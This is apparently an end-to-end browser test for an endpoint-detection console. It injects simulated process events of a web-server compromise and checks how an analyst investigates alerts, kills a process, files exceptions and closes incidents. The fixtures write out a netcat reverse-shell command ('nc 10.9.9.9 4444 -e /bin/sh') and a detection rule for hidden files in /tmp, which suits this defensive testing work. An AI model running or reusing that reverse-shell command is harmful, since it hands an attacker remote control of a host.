// The analyst follows an attack in the console (Debian's Chromium) against a real embedded server
// (test/api/support.ts: SQLite, chdb, ledger, a simulated agent): a chain of process events on one lineage —
// nginx starts a shell that writes a file and runs `nc -e /bin/sh` which connects out — raises two alerts (a
// shell spawned by a web server; a netcat reverse shell). The analyst opens the netcat alert and sees its
// lineage (nginx → sh → nc), the rule's author and the evidence (command line, connection, user), goes to the
// process page (ancestors, events by type, kill with a reason), filters the host timeline to that process,
// hunts from a pivot; creates an exception from the alert, sees it listed and removes it; follows a file's and a
// user's "Alerts about this" pivot to the alert list filtered by them; opens the incident (when the server groups
// alerts into incidents), sees its alerts, tree and timeline, overrides its severity, edits its title, links a
// response action, moves an alert out and closes it with a disposition. Screenshots of each page go to test-artifacts/investigation-*.png.

import { after, before, test, type TestContext } from 'node:test';
import assert from 'node:assert/strict';
import type { Browser, Page } from 'playwright-core';
import type { VigilEvent } from '../../src/schema/event.ts';
import { call, drained, startFixture, type Fixture } from '../api/support.ts';
import { launchChromium, screenshot, signInWithApiKey } from './browser.ts';

let f: Fixture;
let browser: Browser;
let page: Page;
let hostId: string;
let netcatAlert: any;

const base = Date.now() - 120_000;
let clock = base;
let n = 0;
const RUN = Math.random().toString(16).slice(2, 10);

interface Proc { pid: number; entity: string; exe: string; args: string[] }
const NGINX: Proc = { pid: 700, entity: `ent-nginx-${RUN}`, exe: '/usr/sbin/nginx', args: ['nginx', '-g', 'daemon off;'] };
const SHELL: Proc = { pid: 701, entity: `ent-sh-${RUN}`, exe: '/bin/sh', args: ['sh', '-c', 'cd /tmp; nc 10.9.9.9 4444 -e /bin/sh'] };
const NC: Proc = { pid: 702, entity: `ent-nc-${RUN}`, exe: '/usr/bin/nc', args: ['nc', '10.9.9.9', '4444', '-e', '/bin/sh'] };

function event(type: string, p: Proc, parent: Proc | undefined, extra: Partial<VigilEvent> = {}): VigilEvent {
  const e = f.agents[0].syntheticEvents(1)[0];
  e['@timestamp'] = new Date(clock += 50).toISOString();
  const category = type.startsWith('network') ? 'network' : type.startsWith('file') ? 'file' : 'process';
  e.event = { ...e.event, id: `0190c0de-0000-7000-8000-${RUN.slice(0, 4)}${String(++n).padStart(8, '0')}`, type: type as VigilEvent['event']['type'],
    action: type === 'process_start' ? 'exec' : type === 'process_end' ? 'exit' : type, category };
  e.process = {
    pid: p.pid, ppid: parent?.pid ?? 1, entity_id: p.entity, executable: p.exe, name: p.exe.split('/').pop(), args: p.args,
    command_line: p.args.join(' '), start: new Date(base).toISOString(), hash: { sha256: `${'ab'.repeat(31)}${String(p.pid % 100).padStart(2, '0')}` },
    ...(parent ? { parent: { pid: parent.pid, entity_id: parent.entity, executable: parent.exe, command_line: parent.args.join(' ') } } : {}),
  };
  e.user = { id: '33', name: 'www-data' };
  return { ...e, ...extra };
}

before(async () => {
  f = await startFixture();
  hostId = f.agents[0].identity.agentId;
  await f.agents[0].send([
    event('process_start', NGINX, undefined),
    event('process_start', SHELL, NGINX),
    event('file_create', SHELL, NGINX, { file: { path: '/tmp/.x-payload' } }),
    event('process_start', NC, SHELL),
    event('network_connection', NC, SHELL, { source: { ip: '192.168.1.20', port: 51514 }, destination: { ip: '10.9.9.9', port: 4444 }, network: { transport: 'tcp', direction: 'outbound' } }),
  ]);
  await drained(f);
  for (const until = Date.now() + 20_000; Date.now() < until; await new Promise((r) => setTimeout(r, 200))) {
    const r = await call(f, 'GET', `/alerts?host=${hostId}&limit=100`, { token: f.adminKey });
    netcatAlert = r.body.alerts?.find((a: any) => a.process_entity_id === NC.entity);
    if (netcatAlert) break;
  }
  assert.ok(netcatAlert, 'the netcat alert was raised');
  browser = await launchChromium();
  page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
  page.setDefaultTimeout(15_000);
  await signInWithApiKey(page, f.server.httpUrl, f.adminKey);
});

after(async () => {
  await browser?.close();
  await f?.stop();
});

async function endpointThere(t: TestContext, path: string): Promise<boolean> {
  const r = await call(f, 'GET', path, { token: f.adminKey });
  if (r.status === 404 && /no route/.test(JSON.stringify(r.body))) { t.skip(`GET ${path.split('?')[0]} is not on this server yet`); return false; }
  return true;
}

test('the alert tells the story: lineage root first, rule author, techniques, evidence in full', { timeout: 90_000 }, async () => {
  await page.getByRole('link', { name: 'Alerts', exact: true }).click();
  const list = page.getByRole('table', { name: 'Alerts' });
  const row = list.getByRole('row').filter({ hasText: 'Netcat Reverse Shell' });
  await row.first().waitFor();
  assert.match(await row.first().innerText(), /own-host/, 'the host by name, not its id');
  assert.doesNotMatch(await list.innerText(), new RegExp(hostId.slice(0, 12)), 'no raw host id in the list');
  await screenshot(page, 'investigation-alert-list');

  await row.first().getByRole('link', { name: 'Netcat Reverse Shell' }).click();
  await page.getByRole('heading', { name: 'Netcat Reverse Shell' }).waitFor();
  const lineage = page.getByRole('list', { name: 'Process lineage' });
  await lineage.waitFor();
  const nodes = await lineage.getByRole('listitem').allInnerTexts();
  assert.equal(nodes.length, 3, nodes.join('\n---\n'));
  assert.match(nodes[0], /nginx/);
  assert.match(nodes[1], /sh -c cd \/tmp/);
  assert.match(nodes[2], /nc 10\.9\.9\.9 4444 -e \/bin\/sh/);
  assert.match(nodes[2], /www-data/);
  assert.match(await page.getByTestId('rule-author').innerText(), /Author: Vigil/);
  await page.getByRole('list', { name: 'MITRE techniques' }).getByText('T1059.004').waitFor();
  const evidence = page.getByTestId('evidence-event').first();
  assert.match(await evidence.innerText(), /nc 10\.9\.9\.9 4444 -e \/bin\/sh/);
  assert.match(await evidence.innerText(), /www-data/);
  await evidence.getByRole('button', { name: 'Show raw JSON' }).click();
  await evidence.getByTestId('raw-json').waitFor();
  assert.match(await page.getByTestId('occurrences').innerText(), /Occurrences \d+/);
  await screenshot(page, 'investigation-alert-detail');
  await evidence.getByRole('button', { name: 'Hide raw JSON' }).click();

  // A lineage node opens its process page.
  await page.locator(`[data-testid="lineage-focus"] a`).first().click();
  await page.getByRole('heading', { name: /nc pid 702/ }).waitFor();
});

test('the process page: ancestors, events by type, alerts, kill with a reason', { timeout: 90_000 }, async () => {
  await page.getByRole('list', { name: 'Ancestors' }).getByText('/usr/sbin/nginx').first().waitFor();
  const counts = page.getByLabel('Events by type');
  await counts.getByRole('link', { name: 'network_connection' }).waitFor();
  await page.getByLabel('Alerts about this process').getByRole('link', { name: 'Netcat Reverse Shell' }).waitFor();
  await page.getByRole('table', { name: 'Files' }).getByText('/usr/bin/nc').first().waitFor();
  await screenshot(page, 'investigation-process');

  await page.getByRole('button', { name: 'Kill process' }).first().click();
  const dialog = page.getByRole('dialog');
  await dialog.getByText(/kills pid 702/).waitFor();
  assert.equal(await dialog.getByRole('button', { name: 'Kill process' }).isDisabled(), true, 'a reason is required');
  await dialog.getByRole('textbox', { name: 'Reason' }).fill('reverse shell from the web server');
  await screenshot(page, 'investigation-kill-dialog');
  await dialog.getByRole('button', { name: 'Kill process' }).click();
  await dialog.getByTestId('response-requested').waitFor();
  const actions = await call(f, 'GET', '/ir/actions', { token: f.adminKey });
  const kill = actions.body.actions.find((a: any) => a.action === 'kill_process');
  assert.ok(kill, 'the kill was requested');
  assert.equal(kill.params.pid, 702);
  assert.equal(kill.params.entity_id, NC.entity);
  await dialog.getByRole('button', { name: 'Close' }).click();

  // The parent's page lists nc among its children.
  await page.getByRole('list', { name: 'Ancestors' }).getByRole('link', { name: 'sh', exact: true }).click();
  await page.getByRole('heading', { name: /sh pid 701/ }).waitFor();
  await page.getByRole('table', { name: 'Children' }).getByRole('link', { name: 'nc' }).waitFor();
  await page.getByRole('table', { name: 'Files' }).getByText('/tmp/.x-payload').waitFor();
  await screenshot(page, 'investigation-process-parent');
});

test('the host timeline filtered to a process; a pivot opens a hunt', { timeout: 90_000 }, async () => {
  // The process filter is the server's: GET /events?process_entity_id=, not the host's events filtered here.
  const asked = page.waitForRequest((r) => r.url().includes('/api/v1/events?') && new URL(r.url()).searchParams.get('process_entity_id') === NC.entity);
  await page.goto(`${f.server.httpUrl}/hosts/${hostId}?tab=timeline&process=${NC.entity}`);
  await asked;
  const timeline = page.getByRole('table', { name: 'Timeline' });
  await timeline.locator('tr[data-event-type="network_connection"]').waitFor();
  const text = await timeline.innerText();
  assert.match(text, /10\.9\.9\.9/, 'the destination, not only a command line');
  assert.doesNotMatch(text, /\/tmp\/\.x-payload/, 'only the events of nc');
  const procs = await timeline.locator('tbody tr td:nth-child(3)').allInnerTexts();
  assert.ok(procs.length >= 2, procs.join('|'));
  for (const p of procs) assert.match(p, /^nc 702/, `every row is nc's: ${procs.join(' | ')}`);
  assert.match(await page.getByTestId('timeline-count').innerText(), /of this process/);
  assert.equal(await page.getByText(/among the first .* events of the host/).count(), 0, 'no "stopped short" notice');
  await screenshot(page, 'investigation-timeline-process');

  await page.goto(`${f.server.httpUrl}/hosts/${hostId}?tab=timeline&type=file_create`);
  await timeline.getByText('/tmp/.x-payload').waitFor();
  await screenshot(page, 'investigation-timeline-files');
  await timeline.getByText('/tmp/.x-payload').click();
  await page.getByRole('menuitem', { name: 'Hunt: events with this path on this host' }).click();
  const results = page.getByRole('table', { name: 'Hunt results' });
  await results.waitFor();
  await results.getByText('/tmp/.x-payload').first().waitFor();
  await screenshot(page, 'investigation-hunt-pivot');
});

test('the alert list: total, host filter by name, grouping by process, bulk acknowledge of a selection', { timeout: 90_000 }, async (t) => {
  const probe = await call(f, 'GET', '/alerts?limit=1', { token: f.adminKey });
  if (probe.body.total === undefined) { t.skip('GET /alerts answers no total on this server yet'); return; }
  await page.goto(`${f.server.httpUrl}/alerts`);
  await page.getByRole('combobox', { name: 'Host' }).fill('own');
  await page.getByRole('option', { name: 'own-host' }).click();
  await page.waitForURL(/host=own-host/);
  await page.getByTestId('alert-total').filter({ hasText: /^2 alerts match/ }).waitFor();

  await page.locator('label[for$="-process"]').click();
  const groups = page.getByRole('table', { name: 'Alert groups' });
  await groups.getByRole('button', { name: /^nc 10\.9\.9\.9/ }).waitFor();
  await page.getByTestId('alert-total').filter({ hasText: '2 alerts in 2 processes' }).waitFor();
  await screenshot(page, 'investigation-alerts-by-process');
  await groups.getByRole('button', { name: /^nc 10\.9\.9\.9/ }).click();
  await page.waitForURL(new RegExp(`process_entity_id=${NC.entity}`));
  await page.getByTestId('alert-total').filter({ hasText: /^1 alert match/ }).waitFor();
  await page.getByRole('button', { name: 'all processes' }).click();

  const list = page.getByRole('table', { name: 'Alerts' });
  await page.getByTestId('alert-total').filter({ hasText: /^2 alerts match/ }).waitFor();
  await list.getByRole('checkbox', { name: 'Select every alert on this page' }).check();
  const bar = page.getByTestId('bulk-bar');
  await bar.getByText('2 alerts selected').waitFor();
  await screenshot(page, 'investigation-alerts-bulk');
  await bar.getByRole('button', { name: 'Acknowledge' }).click();
  await page.getByTestId('bulk-result').filter({ hasText: '2 changed of 2 matching' }).waitFor();
  const acked = await call(f, 'GET', `/alerts?host=${hostId}&status=acknowledged`, { token: f.adminKey });
  assert.equal(acked.body.total, 2);
});

test('an exception from the alert: choose fields, see what it does, list it, remove it', { timeout: 90_000 }, async (t) => {
  if (!(await endpointThere(t, '/exceptions'))) return;
  await page.goto(`${f.server.httpUrl}/alerts/${netcatAlert.id}`);
  await page.getByRole('button', { name: 'Create exception' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByRole('checkbox', { name: /process\.executable/ }).check();
  await dialog.getByTestId('exception-explain').getByText(/\/usr\/bin\/nc/).waitFor();
  await dialog.getByRole('textbox', { name: 'Reason' }).fill('authorised pentest from this host');
  await screenshot(page, 'investigation-exception-dialog');
  await dialog.getByRole('button', { name: 'Create exception' }).click();
  await dialog.waitFor({ state: 'detached' });

  await page.getByRole('link', { name: 'Exceptions' }).click();
  const table = page.getByRole('table', { name: 'Exceptions' });
  const row = table.getByRole('row').filter({ hasText: 'authorised pentest' });
  await row.waitFor();
  assert.match(await row.innerText(), /Netcat Reverse Shell/);
  assert.match(await row.innerText(), /own-host/);
  await screenshot(page, 'investigation-exceptions');
  page.once('dialog', (d) => void d.accept());
  await row.getByRole('button', { name: 'Remove' }).click();
  await row.waitFor({ state: 'detached' });
  assert.equal((await call(f, 'GET', '/exceptions', { token: f.adminKey })).body.exceptions.length, 0);
});

test('a file pivot opens the alert list filtered by that file, with the alert about it', { timeout: 90_000 }, async (t) => {
  const probe = await call(f, 'GET', `/alerts?file=${encodeURIComponent('/nothing-here')}&limit=1`, { token: f.adminKey });
  if (probe.status === 400) { t.skip('GET /alerts has no file= filter on this server yet'); return; }
  // A rule on file events, then a file the shell drops: its alert keeps the file event (file.path).
  const path = `/tmp/.x-drop-${RUN}`;
  const rule = await call(f, 'POST', '/rules', { token: f.adminKey, body: { yaml: [
    'title: Hidden Drop In Tmp', `id: 5b1c7e2a-0d4f-4a6b-9c3e-${RUN}0000`, 'status: test', 'author: Vigil tests',
    'logsource:', '  product: linux', '  category: file_event', 'detection:', '  selection:', '    TargetFilename|startswith: /tmp/.x-drop-',
    '  condition: selection', 'level: high', ''].join('\n') } });
  assert.equal(rule.status, 201, JSON.stringify(rule.body));
  await f.agents[0].send([event('file_create', SHELL, NGINX, { file: { path } })]);
  await drained(f);
  let dropAlert: any;
  for (const until = Date.now() + 20_000; Date.now() < until && !dropAlert; await new Promise((r) => setTimeout(r, 200))) {
    const r = await call(f, 'GET', `/alerts?host=${hostId}&limit=100`, { token: f.adminKey });
    dropAlert = r.body.alerts?.find((a: any) => a.rule?.title === 'Hidden Drop In Tmp');
  }
  assert.ok(dropAlert, 'the file rule raised an alert');

  await page.goto(`${f.server.httpUrl}/hosts/${hostId}?tab=timeline&type=file_create`);
  const timeline = page.getByRole('table', { name: 'Timeline' });
  await timeline.getByText(path).click();
  await page.getByRole('menuitem', { name: 'Alerts about this' }).click();
  await page.waitForURL((u) => u.pathname === '/alerts' && u.searchParams.get('file') === path);
  await page.getByTestId('alert-filter-file').getByText(path).waitFor();
  await page.getByTestId('alert-total').filter({ hasText: /^1 alert match/ }).waitFor();
  const list = page.getByRole('table', { name: 'Alerts' });
  await list.getByRole('row').filter({ hasText: 'Hidden Drop In Tmp' }).waitFor();
  assert.doesNotMatch(await list.innerText(), /Netcat Reverse Shell/, 'only the alert about that file');
  await screenshot(page, 'investigation-alerts-by-file');

  // A user pivot offers the same: the alerts whose process ran as www-data.
  await page.goto(`${f.server.httpUrl}/hosts/${hostId}?tab=timeline&process=${NC.entity}`);
  await timeline.getByText('www-data').first().click();
  await page.getByRole('menuitem', { name: 'Alerts about this' }).click();
  await page.waitForURL((u) => u.pathname === '/alerts' && u.searchParams.get('user') === 'www-data');
  await list.getByRole('row').filter({ hasText: 'Netcat Reverse Shell' }).first().waitFor();
});

test('the incident: its alerts, process tree and timeline; closed with a disposition', { timeout: 90_000 }, async (t) => {
  if (!(await endpointThere(t, '/incidents'))) return;
  const incident = await call(f, 'GET', `/alerts/${netcatAlert.id}/incident`, { token: f.adminKey });
  if (incident.status !== 200) { t.skip('the server put the alert into no incident'); return; }
  await page.getByRole('link', { name: 'Incidents' }).click();
  const list = page.getByRole('table', { name: 'Incidents' });
  await list.getByRole('link', { name: incident.body.title }).click();
  await page.getByRole('heading', { name: incident.body.title }).waitFor();
  const tree = page.getByRole('tree', { name: 'Incident processes' });
  await tree.getByText('nginx').first().waitFor();
  await tree.getByText(/nc 10\.9\.9\.9/).first().waitFor();
  await page.getByRole('table', { name: 'Incident timeline' }).getByText(/Netcat Reverse Shell/).first().waitFor();
  await screenshot(page, 'investigation-incident');

  // Severity override: shown in the header, stored by the server.
  if (incident.body.severity !== 'low') {
    await page.getByLabel('Severity', { exact: true }).first().click();
    await page.getByRole('option', { name: 'low', exact: true }).click();
    await page.getByTestId('severity-override').waitFor();
    const changed = await call(f, 'GET', `/incidents/${incident.body.id}`, { token: f.adminKey });
    assert.equal(changed.body.severity_override, 'low');
    assert.equal(changed.body.severity, 'low');
    await screenshot(page, 'investigation-incident-severity');
  }

  // Title: edited in place.
  await page.getByRole('button', { name: 'Edit title' }).click();
  await page.getByRole('textbox', { name: 'Incident title' }).fill(`Web shell on own-host ${RUN}`);
  await page.getByRole('button', { name: 'Save title' }).click();
  await page.getByRole('heading', { name: `Web shell on own-host ${RUN}` }).waitFor();

  // A response action on its host (the kill above) linked explicitly.
  const actions = page.getByRole('table', { name: 'Incident response actions' });
  const killRow = actions.getByRole('row').filter({ hasText: 'kill_process' }).first();
  if (await killRow.count()) {
    await killRow.getByRole('button', { name: 'Link' }).click();
    await killRow.getByRole('button', { name: 'Unlink' }).waitFor();
    const linked = await call(f, 'GET', `/incidents/${incident.body.id}`, { token: f.adminKey });
    assert.equal(linked.body.action_ids.length, 1);
  }

  // Moving the netcat alert out leaves the incident without it.
  const now = await call(f, 'GET', `/incidents/${incident.body.id}`, { token: f.adminKey });
  if (now.body.alert_count >= 2) {
    const alerts = page.getByRole('table', { name: 'Incident alerts' });
    const row = alerts.getByRole('row').filter({ hasText: 'Netcat Reverse Shell' });
    await row.getByRole('button', { name: /^Move alert/ }).click();
    await screenshot(page, 'investigation-incident-move-menu');
    await page.getByRole('menuitem', { name: /Move out of this incident/ }).click();
    await row.waitFor({ state: 'detached' });
    const moved = await call(f, 'GET', `/incidents/${incident.body.id}`, { token: f.adminKey });
    assert.ok(!moved.body.alert_ids.includes(netcatAlert.id), 'the netcat alert left the incident');
    assert.equal(moved.body.alert_count, now.body.alert_count - 1);
    const holder = await call(f, 'GET', `/alerts/${netcatAlert.id}/incident`, { token: f.adminKey });
    assert.notEqual(holder.body.id, incident.body.id, 'it is in a new incident');
    await screenshot(page, 'investigation-incident-moved');
  }

  await page.getByRole('button', { name: 'Close incident' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByRole('radio', { name: 'True positive' }).check();
  await dialog.getByRole('textbox', { name: 'Reason' }).fill('contained: host reimaged');
  await dialog.getByRole('button', { name: 'Close incident' }).click();
  await dialog.waitFor({ state: 'detached' });
  await page.getByText('true positive').first().waitFor();
  const after = await call(f, 'GET', `/incidents/${incident.body.id}`, { token: f.adminKey });
  assert.equal(after.body.status, 'closed');
  assert.equal(after.body.disposition, 'true_positive');
  await screenshot(page, 'investigation-incident-closed');
});
